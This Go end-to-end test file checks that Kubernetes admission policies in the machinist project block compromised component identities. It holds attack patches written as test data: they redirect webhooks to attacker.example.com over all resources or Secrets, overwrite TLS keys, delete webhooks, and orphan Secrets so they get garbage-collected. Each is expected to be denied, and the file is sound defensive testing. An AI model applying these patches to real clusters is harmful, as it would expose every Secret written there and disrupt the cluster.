//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"machinist.dev/machinist/api/v1beta1"
	"machinist.dev/machinist/devel/stack"
	"machinist.dev/machinist/examples"
	"machinist.dev/machinist/internal/install"
	"machinist.dev/machinist/internal/install/installer"
	"machinist.dev/machinist/internal/install/manifests"
	"machinist.dev/machinist/simcloud/driver"
)

const migratorName = "machinist-migrator-" + driver.Name

// asMigrator installs the policies and roles of a migrator, and returns a client with the migrator's identity. The
// roles also cover the namespace of the processes, so only the policies protect the Secrets there.
func (m *machinist) asMigrator() client.Client {
	m.t.Helper()
	if _, err := m.NewMigrator(context.Background(), []string{namespace, stack.SystemNamespace}, "unused"); err != nil {
		m.t.Fatal(err)
	}
	c := m.asServiceAccount(migratorName)
	eventually(m.t, "the migrator has its roles", func() (bool, string) {
		ctx := context.Background()
		err := errors.Join(c.List(ctx, &admissionv1.ValidatingWebhookConfigurationList{}),
			c.List(ctx, &corev1.SecretList{}, client.InNamespace(namespace)),
			c.List(ctx, &corev1.SecretList{}, client.InNamespace(stack.SystemNamespace)))
		return err == nil, errorText(err)
	})
	return c
}

// asOperator installs the policy and the roles of the operator, and returns a client with the identity of the operator.
func (m *machinist) asOperator() client.Client {
	m.t.Helper()
	ctx := context.Background()
	objects, err := manifests.Operator()
	if err != nil {
		m.t.Fatal(err)
	}
	if err := install.Apply(ctx, m.Control.Config(), objects...); err != nil {
		m.t.Fatal(err)
	}
	c := m.asServiceAccount(installer.Name)
	foreign := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: stack.SystemNamespace, Name: "foreign"}}
	eventually(m.t, "the operator has its roles, and the policy limits them", func() (bool, string) {
		if err := c.List(ctx, &admissionv1.ValidatingWebhookConfigurationList{}); err != nil {
			return false, errorText(err)
		}
		err := c.Create(ctx, foreign.DeepCopy(), client.DryRunAll)
		return deniedBy("operator", err), errorText(err)
	})
	return c
}

func deniedBy(policy string, err error) bool {
	return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+".machinist.dev'")
}

func (m *machinist) wantDeniedBy(policy, what string, err error) {
	m.t.Helper()
	if !deniedBy(policy, err) {
		m.t.Errorf("%s: got error %v, want a rejection by the policy %s", what, err, policy)
	}
}

func (m *machinist) wantAllowed(what string, err error) {
	m.t.Helper()
	if err != nil {
		m.t.Errorf("%s is refused: %v", what, err)
	}
}

// webhookOf returns a validating webhook configuration for the API groups. No server listens at its URL.
func webhookOf(name string, groups ...string) *admissionv1.ValidatingWebhookConfiguration {
	ignore, none, url := admissionv1.Ignore, admissionv1.SideEffectClassNone, "https://localhost:1/"
	return &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
		Webhooks: []admissionv1.ValidatingWebhook{{Name: name + ".example.com", FailurePolicy: &ignore, SideEffects: &none,
			ClientConfig: admissionv1.WebhookClientConfig{URL: &url}, AdmissionReviewVersions: []string{"v1"},
			Rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{admissionv1.Create},
				Rule: admissionv1.Rule{APIGroups: groups, APIVersions: []string{"*"}, Resources: []string{"things"}}}}}}}
}

// An attacker with the identity of a process tries to change the webhook of this process: its URL leads to a server of
// the attacker, and its rules cover all kinds. This server would receive every Secret that is written, and could refuse
// every write.
//
// Rule: webhooks-limited-by-policy.
func TestAttackProcessRewritesItsWebhook(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := start(t, stack.Options{})
	const policy = "processes-webhooks"
	named := func(name string) metav1.ObjectMeta { return metav1.ObjectMeta{Name: name} }
	for _, target := range []struct {
		process       string
		configuration client.Object
	}{
		{stack.Manager, &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: named(stack.Manager)}},
		{stack.Manager, &admissionv1.MutatingWebhookConfiguration{ObjectMeta: named(stack.Manager)}},
		{stack.Provider, &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: named(stack.Provider)}},
	} {
		thief, what := m.asServiceAccount(target.process), fmt.Sprintf("%s, %T", target.process, target.configuration)
		patch := func(text string) error {
			return thief.Patch(ctx, target.configuration.DeepCopyObject().(client.Object),
				client.RawPatch(types.JSONPatchType, []byte(text)))
		}
		m.wantDeniedBy(policy, what+": another server for all kinds", patch(`[
			{"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.com/"},
			{"op": "replace", "path": "/webhooks/0/rules", "value": [
				{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}]}]`))
		m.wantDeniedBy(policy, what+": another server",
			patch(`[{"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.com/"}]`))
		m.wantDeniedBy(policy, what+": a bundle from another Secret",
			patch(`[{"op": "add", "path": "/metadata/annotations", "value": {"cert-manager.io/inject-ca-from": "a/b"}}]`))
		m.wantDeniedBy(policy, what+": no webhook", patch(`[{"op": "replace", "path": "/webhooks", "value": []}]`))
		var bundle []byte
		eventually(t, what+": the process itself has written a bundle", func() (bool, string) {
			err := m.control.Get(ctx, client.ObjectKeyFromObject(target.configuration), target.configuration)
			if err == nil {
				bundle = bundleOf(target.configuration)
			}
			return len(bundle) > 0, errorText(err)
		})
		value, err := json.Marshal(append(bytes.Clone(bundle), '\n'))
		if err != nil {
			t.Fatal(err)
		}
		m.wantAllowed(what+": a bundle",
			patch(fmt.Sprintf(`[{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": %s}]`, value)))
	}
}

func bundleOf(configuration client.Object) []byte {
	switch c := configuration.(type) {
	case *admissionv1.ValidatingWebhookConfiguration:
		return c.Webhooks[0].ClientConfig.CABundle
	case *admissionv1.MutatingWebhookConfiguration:
		return c.Webhooks[0].ClientConfig.CABundle
	}
	return nil
}

// An attacker with the identity of the operator or of a migrator tries to install or delete webhooks of other systems.
// The operator may write only the webhooks of providers, and a migrator may delete only the webhooks of an old system.
//
// Rule: webhooks-limited-by-policy.
func TestAttackOperatorAndMigratorWriteForeignWebhooks(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := start(t, stack.Options{})
	operator, migrator := m.asOperator(), m.asMigrator()
	for name, groups := range map[string][]string{
		"machinist-provider-foreign": {""}, "old": {"machine.sapcloud.io", "machine.k8s.io"},
		"shared": {"machine.sapcloud.io", "example.com"}, "all": {"*"},
	} {
		if err := m.control.Create(ctx, webhookOf(name, groups...)); err != nil {
			t.Fatal(err)
		}
	}
	withoutRules := webhookOf("without-rules", "example.com")
	withoutRules.Webhooks[0].Rules = nil
	if err := m.control.Create(ctx, withoutRules); err != nil {
		t.Fatal(err)
	}

	patch := func(c client.Client, name, text string) error {
		return c.Patch(ctx, webhookOf(name), client.RawPatch(types.MergePatchType, []byte(text)))
	}
	const acme = "machinist-provider-acme"
	m.wantAllowed("the operator creates the webhook of a provider",
		operator.Create(ctx, webhookOf(acme, v1beta1.GroupName)))
	m.wantAllowed("the operator changes the webhook of a provider",
		patch(operator, acme, `{"metadata": {"annotations": {"a": "b"}, "labels": {"a": "b"}}}`))
	generated := webhookOf("machinist-migrator-mine", v1beta1.GroupName)
	generated.Name, generated.GenerateName = "", "machinist-migrator-"
	for what, err := range map[string]error{
		"create a webhook with another name":     operator.Create(ctx, webhookOf("mine", v1beta1.GroupName)),
		"create a webhook with a generated name": operator.Create(ctx, generated),
		"create a webhook for core kinds":        operator.Create(ctx, webhookOf("machinist-provider-mine", "")),
		"create a webhook for all kinds":         operator.Create(ctx, webhookOf("machinist-provider-mine", "*")),
		"create a webhook for two groups": operator.Create(ctx,
			webhookOf("machinist-provider-mine", v1beta1.GroupName, "apps")),
		"delete the manager's webhook":             operator.Delete(ctx, webhookOf(stack.Manager)),
		"delete a webhook of another program":      operator.Delete(ctx, webhookOf("shared")),
		"delete a foreign webhook with our prefix": operator.Delete(ctx, webhookOf("machinist-provider-foreign")),
		"change the manager's webhook":             patch(operator, stack.Manager, `{"webhooks": null}`),
		"register a provider's webhook for Secrets": patch(operator, acme, `{"webhooks": [{"name": "a.example.com",
			"sideEffects": "None", "admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://attacker.example.com/"},
			"rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}]}]}`),
	} {
		m.wantDeniedBy("operator", "the operator: "+what, err)
	}
	m.wantAllowed("the operator deletes the webhook of a provider", operator.Delete(ctx, webhookOf(acme)))

	for _, name := range []string{stack.Manager, stack.Provider, "shared", "all", "without-rules",
		"machinist-provider-foreign"} {
		m.wantDeniedBy("migrator", "the migrator deletes "+name, migrator.Delete(ctx, webhookOf(name)))
	}
	m.wantDeniedBy("migrator", "the migrator deletes the manager's mutating webhook", migrator.Delete(ctx,
		&admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: stack.Manager}}))
	m.wantAllowed("the migrator deletes a webhook of the old system", migrator.Delete(ctx, webhookOf("old")))
}

// An attacker with the identity of one process tries to write Secrets and ConfigMaps that only some other process may
// write. The attacker also tries to change fields of a Secret other than its finalizers.
//
// Rule: secrets-limited-by-policy.
func TestAttackProcessWritesSecretsOfOthers(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := start(t, stack.Options{})
	m.removeDelays()
	m.createFleet(0, nil)
	manager, provider, migrator := m.asServiceAccount(stack.Manager), m.asServiceAccount(stack.Provider), m.asMigrator()
	in := func(namespace, name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: namespace, Name: name}
	}
	secret := func(namespace, name string) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: in(namespace, name), Type: corev1.SecretTypeOpaque}
	}
	copied := func(namespace, name string) *corev1.Secret {
		s := secret(namespace, name)
		s.Labels = map[string]string{v1beta1.LabelMigration: "over"}
		s.Annotations = map[string]string{v1beta1.AnnotationMigratedFrom: "machine.sapcloud.io/MachineClass/a/uid"}
		return s
	}
	patch := func(c client.Client, o client.Object, text string) error {
		return c.Patch(ctx, o, client.RawPatch(types.MergePatchType, []byte(text)))
	}
	owner := &corev1.ConfigMap{ObjectMeta: in(namespace, "owner")}
	if err := m.control.Create(ctx, owner); err != nil {
		t.Fatal(err)
	}
	owned := secret(namespace, "owned")
	owned.Finalizers = []string{"machine.sapcloud.io/machine-controller-manager"}
	owned.OwnerReferences = []metav1.OwnerReference{
		{APIVersion: "v1", Kind: "ConfigMap", Name: owner.Name, UID: owner.UID},
	}
	if err := m.control.Create(ctx, owned); err != nil {
		t.Fatal(err)
	}
	credentials := secret(namespace, examples.CredentialsSecret)
	ofManager := secret(stack.SystemNamespace, stack.Manager+"-webhook")
	ofProvider := secret(stack.SystemNamespace, stack.Provider+"-webhook")
	const key, gone = `{"stringData": {"tls.key": "mine"}}`, `{"metadata": {"ownerReferences": [
		{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}]}}`
	for what, err := range map[string]error{
		"the provider replaces the manager's certificate": patch(provider, ofManager.DeepCopy(), key),
		"the migrator replaces the manager's certificate": patch(migrator, ofManager.DeepCopy(), key),
		"the manager creates a provider's certificate": manager.Create(ctx,
			secret(stack.SystemNamespace, "machinist-provider-other-webhook")),
		"the provider creates a Secret as a migrator does": provider.Create(ctx, copied(stack.SystemNamespace, "mine")),
		"the manager creates a Secret as a migrator does":  manager.Create(ctx, copied(stack.SystemNamespace, "mine")),
		"the provider lets no one renew credentials":       patch(provider, credentials.DeepCopy(), `{"immutable": true}`),
		"the provider removes the old system's finalizer": patch(provider, owned.DeepCopy(),
			`{"metadata": {"finalizers": null}}`),
		// Because the new owner does not exist, the garbage collector would delete the Secret.
		"the migrator deletes a Secret by its owner": patch(migrator, owned.DeepCopy(), gone),
		"the migrator labels credentials": patch(migrator, credentials.DeepCopy(),
			`{"metadata": {"labels": {"machinist.dev/migration": "over"}}}`),
	} {
		m.wantDeniedBy("processes-secrets", what, err)
	}
	m.wantDeniedBy("processes-configmaps", "the provider creates a record of a Migration",
		provider.Create(ctx, &corev1.ConfigMap{ObjectMeta: in(stack.SystemNamespace, "machinist-migration-over-0")}))

	// The processes need these requests.
	m.wantAllowed("the provider replaces its own certificate", provider.Patch(ctx, ofProvider.DeepCopy(),
		client.RawPatch(types.MergePatchType, []byte(`{"stringData": {"next-ca.crt": ""}}`)), client.DryRunAll))
	m.wantAllowed("the manager replaces its own certificate", manager.Patch(ctx, ofManager.DeepCopy(),
		client.RawPatch(types.MergePatchType, []byte(`{"stringData": {"next-ca.crt": ""}}`)), client.DryRunAll))
	m.wantAllowed("the provider holds credentials", patch(provider, owned.DeepCopy(), `{"metadata": {"finalizers": [
		"machine.sapcloud.io/machine-controller-manager", "machinist.dev/in-use"]}}`))
	m.wantAllowed("the migrator removes the old system's finalizer",
		patch(migrator, owned.DeepCopy(), `{"metadata": {"finalizers": ["machinist.dev/in-use"]}}`))
	m.wantAllowed("the provider releases credentials",
		patch(provider, owned.DeepCopy(), `{"metadata": {"finalizers": null}}`))
	m.wantAllowed("the migrator creates a record",
		migrator.Create(ctx, &corev1.ConfigMap{ObjectMeta: in(namespace, "machinist-migration-over-0")}))
	m.wantAllowed("the migrator copies a Secret", migrator.Create(ctx, copied(namespace, "first")))
	m.wantAllowed("the migrator copies another Secret", migrator.Create(ctx, copied(namespace, "second")))
	m.wantDeniedBy("processes-secrets", "the migrator makes a copy immutable",
		patch(migrator, copied(namespace, "first"), `{"immutable": true}`))
	m.wantAllowed("the migrator completes a copy",
		patch(migrator, copied(namespace, "first"), `{"metadata": {"labels": {"machinist.dev/migration": null},
			"annotations": {"machinist.dev/after-migration": null}}}`))
	m.wantDeniedBy("processes-secrets", "the migrator deletes a completed copy",
		migrator.Delete(ctx, copied(namespace, "first")))
	m.wantAllowed("the migrator deletes a copy", migrator.Delete(ctx, copied(namespace, "second")))
}
